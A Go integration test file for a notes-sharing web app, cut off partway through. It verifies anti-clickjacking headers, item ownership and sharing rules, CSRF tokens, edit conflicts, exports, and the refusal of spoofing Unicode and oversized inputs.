package app_test

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"html"
	"net/http"
	"net/http/cookiejar"
	"net/url"
	"regexp"
	"slices"
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/feature/dynamodb/attributevalue"
	"github.com/aws/aws-sdk-go-v2/service/dynamodb"

	"github.com/clickguard/clickguard/internal/app"
	"github.com/clickguard/clickguard/internal/store"
)

const testPassword = "correct horse battery staple"

// newTab returns a browser with its own cookie jar. (srv.Client returns the
// same *http.Client on every call, so each browser needs its own copy.)
func newTab(t *testing.T, srv *testServer) *browser {
	t.Helper()
	jar, err := cookiejar.New(nil)
	if err != nil {
		t.Fatal(err)
	}
	c := *srv.Client()
	c.Jar = jar
	c.CheckRedirect = func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }
	return &browser{t: t, c: &c, base: srv.URL}
}

// user signs a new account up in a fresh browser.
func user(t *testing.T, srv *testServer, name string) *browser {
	t.Helper()
	b := newTab(t, srv)
	if r := b.signup(name, testPassword); r.status != http.StatusSeeOther {
		t.Fatalf("signup %s: status %d", name, r.status)
	}
	return b
}

// loginAgain logs name in again, in a fresh browser: a second session of
// the account.
func loginAgain(t *testing.T, srv *testServer, name string) *browser {
	t.Helper()
	b := newTab(t, srv)
	if r := b.login(name, testPassword); r.status != http.StatusSeeOther {
		t.Fatalf("second login of %s: status %d", name, r.status)
	}
	return b
}

// createItem creates an item through the form and returns its id.
func (b *browser) createItem(title, body string) string {
	b.t.Helper()
	r := b.submit("/items/new", "/items", url.Values{"title": {title}, "body": {body}})
	loc := r.header.Get("Location")
	if r.status != http.StatusSeeOther || !strings.HasPrefix(loc, "/items/") {
		b.t.Fatalf("create item: status %d, Location %q", r.status, loc)
	}
	return strings.TrimPrefix(loc, "/items/")
}

// share shares b's item id with grantee through the confirmation page.
func (b *browser) share(id, grantee string) {
	b.t.Helper()
	if r := b.submit("/items/"+id+"/share?with="+grantee, "/items/"+id+"/share", url.Values{"action": {"add"}, "grantee": {grantee}}); r.status != http.StatusSeeOther {
		b.t.Fatalf("share %s with %s: status %d", id, grantee, r.status)
	}
}

var versionRE = regexp.MustCompile(`name="version" value="(\d+)"`)

// version returns the version field of the form on page path.
func (b *browser) version(path string) string {
	b.t.Helper()
	r := b.get(path)
	m := versionRE.FindStringSubmatch(r.body)
	if m == nil {
		b.t.Fatalf("GET %s: no version field (status %d)", path, r.status)
	}
	return m[1]
}

// head sends a HEAD request like a browser navigation.
func (b *browser) head(path string) response {
	b.t.Helper()
	return b.navigate(http.MethodHead, path, "none")
}

// fill replaces the wildcards of a route pattern.
func fill(pattern, id, static string) string {
	if strings.HasPrefix(pattern, "/static/") {
		return static
	}
	p := strings.ReplaceAll(pattern, "{id}", id)
	return strings.TrimSuffix(p, "{$}")
}

// postForms are valid forms for each mutation, so that a refusal in the
// tests below is the app's decision and not a form error.
func postForm(pattern, version string) url.Values {
	switch pattern {
	case "/items/{id}/edit":
		return url.Values{"title": {"changed"}, "body": {"changed"}, "version": {version}}
	case "/items/{id}/delete":
		return url.Values{"version": {version}}
	case "/items/{id}/share":
		return url.Values{"action": {"add"}, "grantee": {"carol"}}
	case "/items/{id}/visibility":
		return url.Values{"public": {"true"}, "version": {version}}
	}
	return url.Values{}
}

var staticRE = regexp.MustCompile(`href="(/static/[^"]+\.css)"`)

// frameAncestors returns the frame-ancestors directive of a response's CSP.
func frameAncestors(h http.Header) string {
	for _, csp := range h.Values("Content-Security-Policy") {
		for d := range strings.SplitSeq(csp, ";") {
			d = strings.TrimSpace(d)
			if strings.HasPrefix(d, "frame-ancestors") {
				return d
			}
		}
	}
	return ""
}

// TestRoutes covers every row of the route table: GET never mutates, GET and
// HEAD on a mutation-only path are 405 with Allow, and every response, public
// or not, signed in or out, carries one CSP with frame-ancestors 'none' and
// X-Frame-Options DENY (the embed route with an empty allowlist included).
func TestRoutes(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	id := alice.createItem("Plan", "private text")
	home := alice.get("/items")
	m := staticRE.FindStringSubmatch(home.body)
	if m == nil {
		t.Fatal("no stylesheet link on /items")
	}
	static := m[1]
	anon := newTab(t, srv)

	routes := app.Routes()
	getPatterns := map[string]bool{}
	for _, rt := range routes {
		if rt.Method == "GET" {
			getPatterns[rt.Pattern] = true
			if rt.Mutates {
				t.Errorf("GET %s is marked Mutates", rt.Pattern)
			}
		}
		if rt.Mutates && rt.Method != "POST" {
			t.Errorf("%s %s mutates but is not a POST", rt.Method, rt.Pattern)
		}
		if rt.Embeddable && (rt.Method != "GET" || rt.Pattern != "/embed/{id}") {
			t.Errorf("%s %s is embeddable; only GET /embed/{id} may be", rt.Method, rt.Pattern)
		}
	}
	for _, rt := range routes {
		path := fill(rt.Pattern, id, static)
		if rt.Method == "POST" && !getPatterns[rt.Pattern] {
			for _, method := range []string{"GET", "HEAD"} {
				var r response
				if method == "GET" {
					r = alice.get(path)
				} else {
					r = alice.head(path)
				}
				if r.status != http.StatusMethodNotAllowed {
					t.Errorf("%s %s: status %d, want 405", method, path, r.status)
				}
				if allow := r.header.Get("Allow"); !strings.Contains(allow, "POST") {
					t.Errorf("%s %s: Allow %q, want POST", method, path, allow)
				}
			}
		}
		if rt.Method != "GET" {
			continue
		}
		for _, who := range []struct {
			name string
			b    *browser
		}{{"alice", alice}, {"anonymous", anon}} {
			for _, method := range []string{"GET", "HEAD"} {
				var r response
				if method == "GET" {
					r = who.b.get(path)
				} else {
					r = who.b.head(path)
				}
				if n := len(r.header.Values("Content-Security-Policy")); n != 1 {
					t.Errorf("%s %s as %s: %d CSP headers, want 1", method, path, who.name, n)
				}
				if fa := frameAncestors(r.header); fa != "frame-ancestors 'none'" {
					t.Errorf("%s %s as %s (status %d): %q, want frame-ancestors 'none'", method, path, who.name, r.status, fa)
				}
				if xfo := r.header.Values("X-Frame-Options"); len(xfo) != 1 || xfo[0] != "DENY" {
					t.Errorf("%s %s as %s: X-Frame-Options %q, want DENY", method, path, who.name, xfo)
				}
				if r.status >= 500 {
					t.Errorf("%s %s as %s: status %d", method, path, who.name, r.status)
				}
			}
		}
	}
}

// TestOwnership: user B gets 404 on every path of A's private item (the same
// answer as for an id that does not exist), and a grantee may read the item
// but is refused every owner-only page and action; the item stays unchanged.
func TestOwnership(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	srv := newServer(t, env, app.Config{})
	alice := user(t, srv, "alice")
	bob := user(t, srv, "bob")
	carol := user(t, srv, "carol")
	id := alice.createItem("Secret", "do not tell")
	version := alice.version("/items/" + id + "/edit")
	shared := alice.createItem("Shared", "bob may read")
	alice.share(shared, "bob")
	sharedVersion := alice.version("/items/" + shared + "/edit")
	before := dataItems(t, env)

	var paths []string
	for _, rt := range app.Routes() {
		if strings.Contains(rt.Pattern, "{id}") && !strings.HasPrefix(rt.Pattern, "/embed/") && !strings.HasPrefix(rt.Pattern, "/p/") {
			paths = append(paths, rt.Method+" "+rt.Pattern)
		}
	}
	slices.Sort(paths)
	paths = slices.Compact(paths)
	if len(paths) < 9 {
		t.Fatalf("only %d item routes in the table: %q", len(paths), paths)
	}
	// A form token for bob's own session, so that his POSTs reach the
	// handlers instead of being refused by the token check.
	tok := tokenIn(bob.get("/items/new").body)
	for _, p := range paths {
		method, pattern, _ := strings.Cut(p, " ")
		// asBob sends this route for item itemID as bob, a POST with the
		// form the route expects at itemVersion.
		asBob := func(itemID, itemVersion string) (string, response) {
			path := fill(pattern, itemID, "")
			if method == "GET" {
				return path, bob.get(path)
			}
			f := postForm(pattern, itemVersion)
			f.Set("csrf_token", tok)
			return path, bob.postRaw(path, f)
		}
		t.Run(strings.ReplaceAll(p, "/", "_"), func(t *testing.T) {
			path, r := asBob(id, version)
			if r.status != http.StatusNotFound {
				t.Errorf("bob %s %s (alice's private item): status %d, want 404", method, path, r.status)
			}
			if strings.Contains(r.body, "Secret") || strings.Contains(r.body, "do not tell") {
				t.Errorf("bob %s %s: the page shows alice's item", method, path)
			}
			if method == "POST" && pattern == "/items/{id}/leave" {
				return // bob may leave the shared item: below, once the refusals are done
			}
			// A grantee: read-only.
			path, r = asBob(shared, sharedVersion)
			readable := method == "GET" && (pattern == "/items/{id}" || pattern == "/items/{id}/leave")
			switch {
			case readable && r.status != http.StatusOK:
				t.Errorf("grantee GET %s: status %d, want 200", path, r.status)
			case readable && strings.Contains(r.body, "/edit\""):
				t.Errorf("grantee GET %s: page offers an edit link", path)
			case !readable && r.status != http.StatusForbidden:
				t.Errorf("grantee %s %s: status %d, want 403", method, path, r.status)
			}
		})
	}
	// carol, with no share, gets 404 on the shared item too.
	if r := carol.get("/items/" + shared); r.status != http.StatusNotFound {
		t.Errorf("carol GET shared item: status %d, want 404", r.status)
	}
	// The owner cannot "leave" her own item.
	aliceTok := tokenIn(alice.get("/items/new").body)
	for _, r := range []response{alice.get("/items/" + shared + "/leave"), alice.postRaw("/items/"+shared+"/leave", url.Values{"csrf_token": {aliceTok}})} {
		if r.status != http.StatusForbidden || !strings.Contains(r.body, "your own item") {
			t.Errorf("alice leaves her own item: status %d, want 403 that says it is hers", r.status)
		}
	}
	if after := dataItems(t, env); after != before {
		t.Errorf("refused requests changed the data table: %d records, then %d", before, after)
	}
	if r := alice.get("/items/" + id); r.status != http.StatusOK || !strings.Contains(r.body, "do not tell") {
		t.Errorf("alice's item after the attempts: status %d", r.status)
	}
	// The one change a grantee may make: leave.
	if r := bob.postRaw("/items/"+shared+"/leave", url.Values{"csrf_token": {tok}}); r.status != http.StatusSeeOther {
		t.Errorf("bob leaves the shared item: status %d, want 303", r.status)
	}
	if r := bob.get("/items/" + shared); r.status != http.StatusNotFound {
		t.Errorf("bob GET the item he left: status %d, want 404", r.status)
	}
	if r := alice.get("/items/" + shared); r.status != http.StatusOK || !strings.Contains(r.body, "bob may read") {
		t.Errorf("alice's shared item after bob left: status %d", r.status)
	}
}

// TestEditConflict: two edits from the same version; the second gets a 409
// page with both texts, and the first one's text is kept.
func TestEditConflict(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	id := alice.createItem("Notes", "original")
	alice.get("/items/" + id) // where the creation leads, with its message
	edit := "/items/" + id + "/edit"
	page := alice.get(edit)
	v := versionRE.FindStringSubmatch(page.body)[1]
	tok := tokenIn(page.body)

	r1 := alice.postRaw(edit, url.Values{"csrf_token": {tok}, "version": {v}, "title": {"Notes"}, "body": {"first tab's text"}})
	if r1.status != http.StatusSeeOther {
		t.Fatalf("first edit: status %d", r1.status)
	}
	alice.get(r1.header.Get("Location")) // the first tab, shown the message
	r2 := alice.postRaw(edit, url.Values{"csrf_token": {tok}, "version": {v}, "title": {"Notes"}, "body": {"second tab's text"}})
	if r2.status != http.StatusConflict {
		t.Fatalf("second edit from the same version: status %d, want 409", r2.status)
	}
	for _, want := range []string{"first tab&#39;s text", "second tab&#39;s text", "not saved"} {
		if !strings.Contains(r2.body, want) {
			t.Errorf("conflict page lacks %q", want)
		}
	}
	// The conflict page is titled as the edit page is, naming the item,
	// and says what happened.
	if edit, conflict := titleOf(t, page.body), titleOf(t, r2.body); !strings.HasPrefix(conflict, strings.TrimSuffix(edit, " · clickguard")) || conflict == edit {
		t.Errorf("conflict page titled %q, want the edit page's title %q and what happened", conflict, edit)
	}
	if r := alice.get("/items/" + id); !strings.Contains(r.body, "first tab&#39;s text") || strings.Contains(r.body, "second tab") {
		t.Errorf("item after the conflict does not hold the first edit only")
	}
	// The conflict page's form carries the current version: saving from it
	// is a deliberate overwrite, and works.
	v2 := versionRE.FindStringSubmatch(r2.body)[1]
	if v2 == v {
		t.Fatalf("conflict form carries the stale version %s", v)
	}
	r3 := alice.postRaw(edit, url.Values{"csrf_token": {tokenIn(r2.body)}, "version": {v2}, "title": {"Notes"}, "body": {"merged"}})
	if r3.status != http.StatusSeeOther {
		t.Errorf("save from the conflict page: status %d", r3.status)
	}
}

// textareaValue returns what a browser puts in the textarea with the given
// id: the HTML parser drops one line feed right after the start tag.
func textareaValue(t *testing.T, page, id string) string {
	t.Helper()
	start := strings.Index(page, `<textarea id="`+id+`"`)
	if start < 0 {
		t.Fatalf("no textarea %q in the page", id)
	}
	rest := page[start:]
	open, end := strings.Index(rest, ">"), strings.Index(rest, "</textarea>")
	if open < 0 || end < open {
		t.Fatalf("textarea %q is not closed", id)
	}
	return html.UnescapeString(strings.TrimPrefix(rest[open+1:end], "\n"))
}

// TestEdit_keepsLeadingNewlines: saving an edit page unchanged saves the
// text unchanged, leading line breaks included, and so does the conflict
// page's form.
func TestEdit_keepsLeadingNewlines(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	const body = "\n\n  indented poem\n"
	id := alice.createItem("Poem", body)
	edit := "/items/" + id + "/edit"
	page := alice.get(edit)
	if got := textareaValue(t, page.body, "body"); got != body {
		t.Fatalf("edit page shows %q, want %q", got, body)
	}
	v := versionRE.FindStringSubmatch(page.body)[1]
	save := func(version, text string) response {
		return alice.postRaw(edit, url.Values{"csrf_token": {tokenIn(page.body)}, "version": {version}, "title": {"Poem"}, "body": {text}})
	}
	if r := save(v, textareaValue(t, page.body, "body")); r.status != http.StatusSeeOther {
		t.Fatalf("save unchanged: status %d", r.status)
	}
	if got := textareaValue(t, alice.get(edit).body, "body"); got != body {
		t.Errorf("after an unchanged save the text is %q, want %q", got, body)
	}
	// From the old version: the conflict page shows mine as I wrote it.
	r := save(v, "\nmine")
	if r.status != http.StatusConflict {
		t.Fatalf("stale save: status %d, want 409", r.status)
	}
	if got := textareaValue(t, r.body, "body"); got != "\nmine" {
		t.Errorf("conflict page shows mine as %q, want %q", got, "\nmine")
	}
}

// TestItemValidation: titles and texts that would hide or reorder what
// the pages show are refused with a precise message and the input kept,
// on create and on edit; ordinary text in any script is accepted.
func TestItemValidation(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	id := alice.createItem("Plan", "text")
	edit := "/items/" + id + "/edit"
	for _, tc := range []struct {
		name, title, body string
		want              string // "" for accepted
	}{
		{"ordinary", "Weekly plan", "line one\r\nline two\ttabbed", ""},
		{"right to left with marks", "\u05ea\u05db\u05e0\u05d9\u05ea \u200f(2)", "\u0645\u0631\u062d\u0628\u0627 \u061c", ""},
		{"emoji and joiners", "Trip \U0001F469\u200D\U0001F4BB", "", ""},
		{"blank", "   ", "", "Enter a title."},
		{"title not UTF-8", "Plan \xff", "text", "The title contains bytes that are not valid UTF-8."},
		{"text not UTF-8", "Plan", "text \xff", "The text contains bytes that are not valid UTF-8."},
		{"zero-width only", "\u200b\u2060\u200b", "", "Enter a title."},
		{"right-to-left override", "Invoice \u202egnp.exe", "", "U+202E"},
		{"isolate", "a\u2067b", "", "U+2067"},
		{"newline in title", "one\ntwo", "", "U+000A"},
		{"tab in title", "one\ttwo", "", "U+0009"},
		{"NUL in text", "Plan", "a\x00b", "U+0000"},
		{"escape in text", "Plan", "\x1b[31mred", "U+001B"},
		{"C1 control in text", "Plan", "a\u0085b", "U+0085"},
		{"DEL in text", "Plan", "a\x7fb", "U+007F"},
		{"stacked marks within the limit", "Ph\u1edf", "\u0f56\u0f66\u0f92\u0fb2\u0f74\u0f56\u0f66 \u05d1\u05bc\u05b8\u0591\u05bd", ""},
		{"eight marks on one letter", "a" + strings.Repeat("\u0301", 8), "", ""},
		{"marks stacked over the title's row", "Groceries" + strings.Repeat("\u0301\u0300", 5), "", "10 combining marks"},
		{"marks stacked over the text", "Plan", "ok " + strings.Repeat("\u0489", 30), "30 combining marks"},
		// Zero-width (non-)joiners between them keep the marks on the same
		// letter (Chromium draws them in one column).
		{"marks stacked across zero-width non-joiners", "a" + strings.Repeat("\u0301\u0300\u0302\u0303\u200c", 4), "", "16 combining marks"},
		{"marks stacked across zero-width joiners", "Plan", "ok " + strings.Repeat("\u0301\u0300\u0302\u0303\u0304\u200d", 3), "15 combining marks"},
		{"an emoji sequence", "Pride \U0001F3F3\uFE0F\u200D\U0001F308", "\U0001F441\uFE0F\u200D\U0001F5E8\uFE0F", ""},
	} {
		for _, form := range []struct{ page, action string }{{"/items/new", "/items"}, {edit, edit}} {
			v := url.Values{"title": {tc.title}, "body": {tc.body}}
			if form.page == edit {
				v.Set("version", alice.version(edit))
			}
			r := alice.submit(form.page, form.action, v)
			if tc.want == "" {
				if r.status != http.StatusSeeOther {
					t.Errorf("%s, POST %s: status %d, want 303:\n%s", tc.name, form.action, r.status, r.body)
				}
				continue
			}
			if r.status != http.StatusUnprocessableEntity || !strings.Contains(html.UnescapeString(r.body), tc.want) {
				t.Errorf("%s, POST %s: status %d, want 422 naming %s:\n%s", tc.name, form.action, r.status, tc.want, r.body)
			}
		}
	}
	// A title in another direction is isolated from the words around it.
	rtl := alice.createItem("\u05ea\u05db\u05e0\u05d9\u05ea", "")
	for _, p := range []string{"/items", "/items/" + rtl + "/delete"} {
		mustContain(t, p, alice.get(p), "<bdi>\u05ea\u05db\u05e0\u05d9\u05ea</bdi>")
	}
}

// TestItemFlow walks create, limits, delete confirmation, visibility and
// sharing through the pages.
func TestItemFlow(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	user(t, srv, "bob")

	long := strings.Repeat("ü", store.MaxTitleRunes+1)
	r := alice.submit("/items/new", "/items", url.Values{"title": {long}, "body": {"kept"}})
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "201 characters long; the limit is 200") || textareaValue(t, r.body, "body") != "kept" {
		t.Errorf("over-long title: status %d, want 422 with the message and the input kept", r.status)
	}
	r = alice.submit("/items/new", "/items", url.Values{"title": {"big"}, "body": {strings.Repeat("x", store.MaxBodyBytes+1)}})
	if r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "The text is 65537 bytes long; the limit is 65536 bytes (64 KiB).") {
		t.Errorf("over-large body: status %d, want 422 with the limit", r.status)
	}

	id := alice.createItem("Report", "twelve bytes")
	if r := alice.get("/items"); !strings.Contains(r.body, "Item created.") || !strings.Contains(r.body, "/items/"+id) {
		t.Errorf("/items after create: no flash or no link to the item")
	}
	// Sharing is confirmed: ?with= shows a page and changes nothing.
	r = alice.get("/items/" + id + "/share?with=bob")
	if r.status != http.StatusOK || !strings.Contains(r.body, "Share with bob?") {
		t.Errorf("share confirmation: status %d", r.status)
	}
	// A username typed with capitals names the same account, as at log-in.
	r = alice.get("/items/" + id + "/share?with=+BoB")
	if r.status != http.StatusOK || !strings.Contains(r.body, "Share with bob?") || !strings.Contains(r.body, `name="grantee" value="bob"`) {
		t.Errorf("share confirmation for BoB: status %d, want the one for bob", r.status)
	}
	if r := alice.get("/items/" + id + "/share?with=nobody"); r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "no user named") {
		t.Errorf("share with unknown user: status %d", r.status)
	}
	if r := alice.get("/items/" + id); strings.Contains(r.body, "Shared with 1") {
		t.Errorf("a GET of the confirmation shared the item")
	}
	alice.share(id, "bob")
	if r := alice.submit("/items/"+id+"/share?with=bob", "/items/"+id+"/share", url.Values{"action": {"add"}, "grantee": {"BOB"}}); r.status != http.StatusConflict || !strings.Contains(r.body, "already shared with bob") {
		t.Errorf("sharing again with BOB: status %d, want 409 saying bob has it", r.status)
	}
	if r := alice.get("/items/" + id + "/share?with=bob"); r.status != http.StatusUnprocessableEntity || !strings.Contains(r.body, "already shared with bob") || strings.Contains(r.body, "Share with bob?") {
		t.Errorf("share confirmation for a user who already has the item: status %d, want the share page saying so", r.status)
	}
	// Visibility is confirmed and versioned.
	vis := alice.get("/items/" + id + "/visibility")
	if !strings.Contains(vis.body, "Anyone with the link") || !strings.Contains(vis.body, "button-danger") {
		t.Errorf("visibility page does not explain making public with a destructive-looking button")
	}
	if r := newTab(t, srv).get("/p/" + id); r.status != http.StatusNotFound {
		t.Errorf("/p/ of a private item: status %d, want 404", r.status)
	}
	// Asking for what already is (a second tab) writes nothing.
	before := alice.version("/items/" + id + "/edit")
	if r := alice.submit("/items/"+id+"/visibility", "/items/"+id+"/visibility", url.Values{"public": {"false"}, "version": {before}}); r.status != http.StatusSeeOther {
		t.Fatalf("make a private item private: status %d", r.status)
	}
	if !strings.Contains(alice.get("/items/"+id).body, "already private") {
		t.Errorf("making a private item private: no message saying it already was")
	}
	if after := alice.version("/items/" + id + "/edit"); after != before {
		t.Errorf("making a private item private: version %s → %s", before, after)
	}
	if strings.Contains(alice.get("/activity").body, "Item made private") {
		t.Errorf("making a private item private was logged as a change")
	}
	if r := alice.submit("/items/"+id+"/visibility", "/items/"+id+"/visibility", url.Values{"public": {"true"}, "version": {versionRE.FindStringSubmatch(vis.body)[1]}}); r.status != http.StatusSeeOther {
		t.Fatalf("make public: status %d", r.status)
	}
	if r := newTab(t, srv).get("/p/" + id); r.status != http.StatusOK || !strings.Contains(r.body, "twelve bytes") {
		t.Errorf("/p/ of a public item: status %d", r.status)
	}
	// Delete: the confirmation says what goes; a GET deletes nothing.
	del := alice.get("/items/" + id + "/delete")
	for _, want := range []string{"Report", "12 bytes", "Shares revoked</dt><dd>1: bob", "button-danger"} {
		if !strings.Contains(del.body, want) {
			t.Errorf("delete confirmation lacks %q", want)
		}
	}
	if r := alice.get("/items/" + id); r.status != http.StatusOK {
		t.Fatalf("GET of the delete page deleted the item (status %d)", r.status)
	}
	stale := url.Values{"version": {"1"}}
	if r := alice.submit("/items/"+id+"/delete", "/items/"+id+"/delete", stale); r.status != http.StatusConflict {
		t.Errorf("delete at a stale version: status %d, want 409", r.status)
	}
	v := versionRE.FindStringSubmatch(del.body)[1]
	if r := alice.submit("/items/"+id+"/delete", "/items/"+id+"/delete", url.Values{"version": {v}}); r.status != http.StatusSeeOther {
		t.Fatalf("delete: status %d", r.status)
	}
	if r := alice.get("/items/" + id); r.status != http.StatusNotFound {
		t.Errorf("deleted item: status %d, want 404", r.status)
	}
	// The activity log shows all of it, newest first.
	act := alice.get("/activity")
	order := []string{"Item deleted", "Report; shares revoked: 1", "Item made public", "Item shared", "Item created", "Account created"}
	last := -1
	for _, s := range order {
		i := strings.Index(act.body, s)
		if i < 0 || i < last {
			t.Errorf("activity page: %q missing or out of order", s)
		}
		last = i
	}
}

// TestEmbed: the embed page's frame-ancestors is exactly the owner's
// allowlist, and 'none' when it is empty; it has no form, sets no cookie and
// is the same for a logged-in viewer.
func TestEmbed(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	id := alice.createItem("Widget", "embedded text")
	vis := alice.get("/items/" + id + "/visibility")
	alice.submit("/items/"+id+"/visibility", "/items/"+id+"/visibility", url.Values{"public": {"true"}, "version": {versionRE.FindStringSubmatch(vis.body)[1]}})
	anon := newTab(t, srv)

	check := func(name, want string, wantXFO bool) {
		t.Helper()
		for _, b := range []*browser{anon, alice} {
			r := b.get("/embed/" + id)
			if r.status != http.StatusOK || !strings.Contains(r.body, "embedded text") {
				t.Fatalf("%s: GET /embed/: status %d", name, r.status)
			}
			if fa := frameAncestors(r.header); fa != want {
				t.Errorf("%s: %q, want %q", name, fa, want)
			}
			if xfo := r.header.Get("X-Frame-Options"); (xfo != "") != wantXFO {
				t.Errorf("%s: X-Frame-Options %q", name, xfo)
			}
			if strings.Contains(r.body, "<form") || strings.Contains(r.body, "csrf_token") {
				t.Errorf("%s: the embed page has a form", name)
			}
			if c := r.header.Values("Set-Cookie"); len(c) != 0 {
				t.Errorf("%s: the embed page sets cookies: %q", name, c)
			}
		}
	}
	check("empty allowlist", "frame-ancestors 'none'", true)

	acct := alice.get("/account")
	v := versionRE.FindStringSubmatch(acct.body)[1]
	r := alice.submit("/account", "/account/embed-origins", url.Values{"version": {v}, "origins": {"https://blog.example\nhttp://localhost:8081/path\n*.example\nhttps://blog.example//\nhttps://bücher.example"}})
	// Each message is in the summary and beside the field, and says what
	// is wrong.
	if r.status != http.StatusUnprocessableEntity || strings.Count(r.body, "is not an exact origin") != 2*4 ||
		!strings.Contains(r.body, "Line 3: &#34;*.example&#34; is not an exact origin (wildcards are not allowed: give each origin).") ||
		!strings.Contains(r.body, "Line 5: &#34;https://bücher.example&#34; is not an exact origin (non-ASCII host name: give it in its xn-- (punycode) form).") {
		t.Errorf("invalid origins: status %d, want 422 naming the four bad lines and why", r.status)
	}
	// As copied from the address bar: a lone trailing "/" is the origin.
	r = alice.submit("/account", "/account/embed-origins", url.Values{"version": {v}, "origins": {"https://Blog.Example:443/\nhttp://localhost:8081"}})
	if r.status != http.StatusSeeOther {
		t.Fatalf("save origins: status %d", r.status)
	}
	check("two origins", "frame-ancestors https://blog.example http://localhost:8081", false)

	// A framed navigation from an allowlisted site reaches the page.
	req, _ := http.NewRequestWithContext(t.Context(), "GET", srv.URL+"/embed/"+id, nil)
	req.Header.Set("Sec-Fetch-Dest", "iframe")
	req.Header.Set("Sec-Fetch-Site", "cross-site")
	if r := anon.do(req); r.status != http.StatusOK {
		t.Errorf("framed GET /embed/: status %d, want 200", r.status)
	}
	// The public page and every other page stay 'none'.
	if fa := frameAncestors(anon.get("/p/" + id).header); fa != "frame-ancestors 'none'" {
		t.Errorf("/p/: %q, want 'none'", fa)
	}
	v = versionRE.FindStringSubmatch(alice.get("/account").body)[1]
	alice.submit("/account", "/account/embed-origins", url.Values{"version": {v}, "origins": {""}})
	check("cleared allowlist", "frame-ancestors 'none'", true)
}

// TestEmbedOrigins_manyBadLines sends an allowlist of thousands of invalid
// lines: the page names the first few and counts the rest, rather than
// render one message per line (each message also cost a pass over all the
// messages before it, so a large field kept a core busy for minutes).
func TestEmbedOrigins_manyBadLines(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	v := versionRE.FindStringSubmatch(alice.get("/account").body)[1]
	field := "https://ok.example\n" + strings.Repeat("nope\n", 5000) + strings.Repeat("https://a.example,", 3)
	r := alice.submit("/account", "/account/embed-origins", url.Values{"version": {v}, "origins": {field}})
	if r.status != http.StatusUnprocessableEntity {
		t.Fatalf("got status %d, want 422", r.status)
	}
	if n := strings.Count(r.body, "is not an exact origin"); n < 1 || n > 10 {
		t.Errorf("the page names %d bad lines, want 1 to 10", n)
	}
	if !strings.Contains(r.body, "Line 2: &#34;nope&#34;") || !strings.Contains(r.body, "4995 more entries") {
		t.Errorf("the page does not name line 2 and count the other 4995 bad entries")
	}
	if len(r.body) > 64<<10 {
		t.Errorf("the page is %d bytes", len(r.body))
	}
}

// TestEmbedOrigins_refusedKeptWhole: an allowlist refused for having too
// many origins comes back whole, however long, for the user to trim.
func TestEmbedOrigins_refusedKeptWhole(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	label := strings.Repeat("a", 60)
	var lines []string
	for i := range 21 {
		lines = append(lines, fmt.Sprintf("https://%s.%s.%s.site%02d.example", label, label, label, i))
	}
	field := strings.Join(lines, "\n") + "\nhttps://bücher.example" // 4,300 bytes and more
	v := versionRE.FindStringSubmatch(alice.get("/account").body)[1]
	r := alice.submit("/account", "/account/embed-origins", url.Values{"version": {v}, "origins": {field}})
	if r.status != http.StatusUnprocessableEntity {
		t.Fatalf("22 origins: status %d, want 422", r.status)
	}
	if got := textareaValue(t, r.body, "origins"); got != field {
		t.Errorf("the refused allowlist (%d bytes) comes back with %d bytes", len(field), len(got))
	}
}

// TestCreateItem_MaxItems: an account at the store's limit of items gets
// its form back, with its text, and a message that says to delete some.
func TestCreateItem_MaxItems(t *testing.T) {
	t.Parallel()
	env := newEnv(t)
	if err := env.Store.SetMaxItems(1); err != nil {
		t.Fatal(err)
	}
	srv := newServer(t, env, app.Config{})
	alice := user(t, srv, "alice")
	alice.createItem("The one", "")
	r := alice.submit("/items/new", "/items", url.Values{"title": {"One too many"}, "body": {"text to keep"}})
	if r.status != http.StatusUnprocessableEntity {
		t.Fatalf("create over the limit: status %d, want 422", r.status)
	}
	if !strings.Contains(r.body, "Your account holds 1 item, the most it may") || !strings.Contains(r.body, "text to keep") {
		t.Errorf("the page does not give the form back with its text and say to delete items first")
	}
}

// TestExport streams both formats as attachments with every own item, and
// records each export in the activity log.
func TestExport(t *testing.T) {
	t.Parallel()
	srv := newServer(t, newEnv(t), app.Config{})
	alice := user(t, srv, "alice")
	bob := user(t, srv, "bob")
	for _, title := range []string{"one", "two, with \"quotes\"", "three, café"} {
		alice.createItem(title, "body of "+title+"\nline 2")
	}
	theirs := bob.createItem("bob's", "not alice's")
	bob.share(theirs, "alice")

	r := alice.submit("/export", "/export", url.Values{"format": {"json"}})
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment; filename=\"clickguard-alice-") {
		t.Fatalf("JSON export: status %d, Content-Disposition %q", r.status, r.header.Get("Content-Disposition"))
	}
	var items []struct {
		ID, Title, Body string
	}
	if err := json.Unmarshal([]byte(r.body), &items); err != nil {
		t.Fatalf("JSON export does not parse: %v\n%s", err, r.body)
	}
	var titles []string
	for _, it := range items {
		titles = append(titles, it.Title)
	}
	if want := []string{"one", "two, with \"quotes\"", "three, café"}; !slices.Equal(titles, want) {
		t.Errorf("JSON export titles = %q, want %q", titles, want)
	}

	r = alice.submit("/export", "/export", url.Values{"format": {"csv"}})
	if r.status != http.StatusOK || !strings.HasPrefix(r.header.Get("Content-Type"), "text/csv") {
		t.Fatalf("CSV export: status %d, Content-Type %q", r.status, r.header.Get("Content-Type"))
	}
	rows, err := csvRows(r.body)
	if err != nil {
		t.Fatalf("CSV export does not parse: %v", err)
	}
